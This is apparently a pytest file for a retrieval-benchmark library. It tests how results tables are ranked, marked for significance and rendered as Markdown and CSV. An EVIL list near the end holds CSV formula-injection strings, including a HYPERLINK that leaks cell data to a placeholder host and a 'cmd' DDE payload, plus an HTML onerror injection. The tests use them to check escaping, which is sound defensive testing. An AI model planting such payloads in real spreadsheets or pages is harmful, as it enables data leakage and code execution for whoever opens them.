"""Tables of systems by columns, ties, the front; names that others chose run no formula and are text in Markdown."""

import csv
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from midmask.errors import UserError
from midmask.evaluation.rendering import Style, as_csv, as_markdown, csv_cell, markdown_text
from midmask.evaluation.statistics.ranks import label, on_front
from midmask.evaluation.statistics.significance import compare
from midmask.evaluation.tables import (
    ComparisonProtocol,
    PerQuery,
    ResultTable,
    TableCell,
    TableColumn,
    by_measure,
    tabulate,
)
from midmask.leaderboard.board import Board, View, board_of, table_of
from midmask.leaderboard.entries import Marks, entries
from midmask.leaderboard.rows import place_names, rows
from tests.support.benchmark.synthetic import noisy, table
from tests.support.dashboards import compared

SHIFTS = {"bm25": 0.0, "dense": 0.4, "sparse": 0.41}


def by_corpus(corpora: dict[str, PerQuery]) -> list[TableColumn]:
    return [TableColumn(name, "RR@10", per_query) for name, per_query in corpora.items()]


def both_measures(seed: int, shift: float) -> pa.Table:
    """RR@10 and, of the same queries, R@100 that is no better for anyone."""
    return pa.concat_tables([table(noisy(seed, shift=shift)), table(noisy(seed + 50), "R@100")])


@pytest.fixture(scope="module")
def systems() -> dict[str, pa.Table]:
    return {name: both_measures(seed, shift) for seed, (name, shift) in enumerate(SHIFTS.items())}


def mean(seed: int, shift: float, count: int = 40) -> float:
    return float(noisy(seed, shift=shift)[:count].mean())


def column(shown: ResultTable, label: str) -> dict[str, TableCell]:
    return {system: shown.cells[system, label] for system in shown.systems if (system, label) in shown.cells}


def test_each_measure_is_a_column_with_a_family_of_its_own(systems):
    shown = tabulate(by_measure(systems, ["RR@10", "R@100"]))
    assert (shown.systems, shown.columns) == (("bm25", "dense", "sparse"), ("RR@10", "R@100"))
    found = column(shown, "RR@10")
    means = {name: mean(seed, shift) for seed, (name, shift) in enumerate(SHIFTS.items())}
    assert {name: cell.mean for name, cell in found.items()} == pytest.approx(means)
    better = {name: cell.better_than for name, cell in found.items()}
    assert better == {"bm25": (), "dense": ("bm25",), "sparse": ("bm25",)}
    best = max(found, key=lambda name: found[name].mean)
    assert [name for name, cell in found.items() if cell.best] == [best]
    assert {cell.queries for cell in found.values()} == {40} and {cell.seeds for cell in found.values()} == {1}
    assert all(not cell.better_than for cell in column(shown, "R@100").values())
    for name in shown.columns:
        expected = compare(systems, measure=name, correction="bonferroni")
        assert list(shown.comparisons[name]) == expected and len(expected) == 3


def test_against_a_baseline_there_are_fewer_tests(systems):
    protocol = ComparisonProtocol(baseline="dense", correction="holm")
    shown = tabulate(by_measure(systems, ["RR@10"]), protocol)
    found = column(shown, "RR@10")
    pairs = [(row.system, row.baseline) for row in shown.comparisons["RR@10"]]
    assert pairs == [("bm25", "dense"), ("sparse", "dense")]
    assert found["dense"].better_than == ("bm25",) and found["sparse"].better_than == ()


def test_a_system_that_a_corpus_lacks_has_no_cell_there(systems):
    shown = tabulate(by_corpus({"one": systems, "two": {name: systems[name] for name in ("dense", "sparse")}}))
    assert shown.columns == ("one", "two") and ("bm25", "two") not in shown.cells
    assert len(shown.comparisons["one"]) == 3 and len(shown.comparisons["two"]) == 1


def test_seeds_are_averaged_and_their_spread_is_kept():
    runs = [table(noisy(row)) for row in range(3)]
    cell = tabulate(by_measure({"a": runs}, ["RR@10"])).cells["a", "RR@10"]
    means = [mean(row, 0.0) for row in range(3)]
    assert (cell.mean, cell.spread) == pytest.approx((np.mean(means), np.std(means, ddof=1)))
    assert cell.seeds == 3 and cell.queries == 40 and cell.best


def test_equal_systems_are_all_best_in_whatever_order_their_queries_are_summed():
    values = table(noisy(0, count=1000))
    orders = [values.take(np.random.default_rng(row).permutation(1000)) for row in range(5)]
    shown = tabulate(by_measure(dict(zip("abcde", orders, strict=True)), ["RR@10"]))
    assert len({cell.mean for cell in shown.cells.values()}) > 1, "sums that do not depend on the order show nothing"
    assert all(cell.best for cell in shown.cells.values())


def test_columns_need_labels_of_their_own(systems):
    with pytest.raises(UserError, match=r"given twice: RR@10$"):
        tabulate(by_measure(systems, ["RR@10", "R@100", "RR@10"]))
    with pytest.raises(UserError, match="unknown baseline 'bm25'"):
        tabulate(by_corpus({"two": {"dense": systems["dense"]}}), ComparisonProtocol(baseline="bm25"))


CELLS = {
    ("bm25", "dev"): TableCell(0.18401, queries=50, seeds=1),
    ("A_b|c", "dev"): TableCell(0.35906, queries=50, seeds=2, spread=0.001, better_than=("bm25",)),
    ("C", "dev"): TableCell(0.36, queries=50, seeds=1, best=True, better_than=("A_b|c", "bm25")),
    ("bm25", "test"): TableCell(0.5, queries=43, seeds=1, best=True),
}
SYSTEMS = ("bm25", "A_b|c", "C")


def shown(**protocol) -> ResultTable:
    return ResultTable(SYSTEMS, ("dev", "test"), CELLS, {"dev": (), "test": ()}, ComparisonProtocol(**protocol))


@pytest.fixture(scope="module")
def two_corpora() -> ResultTable:
    systems = {name: table(noisy(seed, shift=shift)) for seed, (name, shift) in enumerate([("x", 0), ("y", 0.5)])}
    return tabulate(by_corpus({"one": systems, "two": {**systems, "z": table(noisy(5))}}))


def test_markdown_has_the_best_bold_and_names_who_is_beaten():
    assert as_markdown(shown()).splitlines()[:6] == [
        "| system   |                     dev |       test |",
        "| :------- | ----------------------: | ---------: |",
        "| a bm25   |                  0.1840 | **0.5000** |",
        "| b A_b\\|c |      0.3591<sup>a</sup> |          — |",
        "| c C      | **0.3600**<sup>ab</sup> |          — |",
        "",
    ]


def test_a_star_stands_where_a_baseline_was_compared_with(systems):
    protocol = ComparisonProtocol(baseline="bm25")
    rows = as_markdown(tabulate(by_measure(systems, ["RR@10"]), protocol), Style(decimals=2)).splitlines()
    assert [row.split("|")[1].strip() for row in rows[2:5]] == ["bm25", "dense", "sparse"]
    assert ["<sup>\\*</sup>" in row for row in rows[2:5]] == [False, True, True]
    assert "*: significantly better than bm25" in rows[-1]


def test_csv_keeps_who_is_beaten(two_corpora):
    cells = {(row["system"], row["column"]): row for row in csv.DictReader(io.StringIO(as_csv(two_corpora)))}
    assert cells["y", "two"]["better_than"] == "x;z" and cells["y", "two"]["best"] == "True"
    assert cells["x", "one"]["queries"] == "40"


def test_letters_after_z_are_numbered():
    assert [label(number) for number in (0, 25, 26, 53)] == ["a", "z", "a1", "b2"]


VALUES = st.lists(st.tuples(st.integers(0, 5), st.integers(0, 5), st.integers(0, 2)), max_size=14)


def dominates(one, other, modes) -> bool:
    gains = [(a - b) if mode == "max" else (b - a) for a, b, mode in zip(one, other, modes, strict=True)]
    return min(gains) >= 0 and max(gains) > 0


@given(VALUES, st.tuples(*[st.sampled_from(["max", "min"])] * 3))
def test_the_front_is_what_nothing_dominates(values, modes):
    brute = [not any(dominates(other, own, modes) for other in values) for own in values]
    assert on_front(values, modes) == brute


EVIL = [
    *('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+1+cmd|A0", "-2+3", "\t=1", "\r=1", "\n=1", "x;=1+1", "two\nlines"),
    *('<img src=x onerror="alert(1)">', "a|b", "**bold** _soft_ `code`", "[link](http://host)", "$x$", "\\|"),
]


def board(name: str) -> Board:
    """The board of the benchmark, in which everything that a user names has this name."""
    changed = {"midmask.recipe": name, "midmask.protocol": name, "midmask.backbone": f"{name}2"}
    runs = [replace(run, run_id=f"{name}{run.run_id}", tags=run.tags | changed) for run in compared.tracked_rows()[:1]]
    found = rows([*runs, *compared.tracked_rows()])
    view = View(place_names(row.place for row in found), ("nDCG@10",))
    return board_of(entries(found), view, lambda shown: Marks(text=f"Not compared: {name}."))


def test_no_cell_of_a_table_that_is_kept_as_csv_is_a_formula() -> None:
    for name in EVIL:
        text = table_of(board(name)).to_csv()
        cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
        assert not [cell for cell in cells if is_formula(cell)], name
        assert " ".join(re.split("[\r\n]+", name)) in {cell.replace("'", "") for cell in cells}, "all there"


def is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.lstrip()[:1] in {"=", "@", "+", "-"} or cell[:1] in {"\t", "\r", "\n"}
    return False


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def tags_of(text: str) -> set[str]:
    parsed = Tags()
    parsed.feed(text)
    return set(parsed.tags)


def test_tables_of_a_benchmark_escape_likewise() -> None:
    values = compared.per_query({measure: compared.values("none", 0, measure) for measure in compared.MEASURES})
    made = tabulate(by_measure(dict.fromkeys(EVIL, values), compared.MEASURES))
    cells = [cell for line in csv.reader(io.StringIO(as_csv(made))) for cell in line]
    assert not [cell for cell in cells if is_formula(cell)]
    assert tags_of(as_markdown(made)) <= {"sup"}


@given(st.text())
@example("-5")
@example("+5e3")
@example("1,204")
@example("-1+1")
@example("0;-5;=1")
@example("-5;0")
def test_only_what_a_spreadsheet_would_run_is_changed(text: str) -> None:
    cell = str(csv_cell(text))
    assert not any(is_formula(part.replace(",", "")) for part in [cell, *cell.split(";")])
    if not re.search("(^|;)\\s*[-+=@]|(^|;)\t", text) and not re.search("[\r\n]", text):
        assert cell == text
    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None


@given(st.text())
def test_markdown_shows_the_text(text: str) -> None:
    """Backslashes and entities taken back, as CommonMark does, the text is there again, in one line."""
    shown = markdown_text(text)
    assert len(shown.splitlines()) <= 1 and not re.search("[<>]", shown)
    plain = Tags()
    plain.feed(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", shown.replace("&amp;", "&amp;amp;")))
    plain.close()
    assert plain.text.replace("&amp;", "&") == " ".join(text.splitlines())
